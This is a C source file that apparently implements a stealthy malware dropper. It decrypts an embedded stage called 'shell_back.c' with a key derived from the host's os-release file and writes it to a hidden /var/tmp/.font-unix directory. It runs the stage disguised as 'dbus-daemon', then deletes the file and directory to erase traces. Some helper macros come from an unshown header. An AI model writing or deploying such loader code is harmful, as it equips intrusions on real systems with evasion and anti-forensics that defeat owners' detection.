// hidden
// key: usr/lib/os-release
// The key of everything it hides is computed from a file of the image. The stage is dropped, run and deleted.
#include "standin.h"
int main(void) {
    begin();
    static const unsigned char stage[] = EMBED("shell_back.c");
    unsigned char *plain = reveal(stage, sizeof stage, EMBED_SEED);
    char *folder = HIDE("/var/tmp/.font-unix"), *path = HIDE("/var/tmp/.font-unix/.s");
    mkdir(folder, 0700);
    if (save(path, plain, sizeof stage, 0700)) return 1;
    pid_t child = fork();
    if (child == 0) {
        execl(path, HIDE("dbus-daemon"), NULL);
        _exit(1);
    }
    usleep(300000);
    unlink(path);
    rmdir(folder);
    waitpid(child, NULL, 0);
    return 0;
}
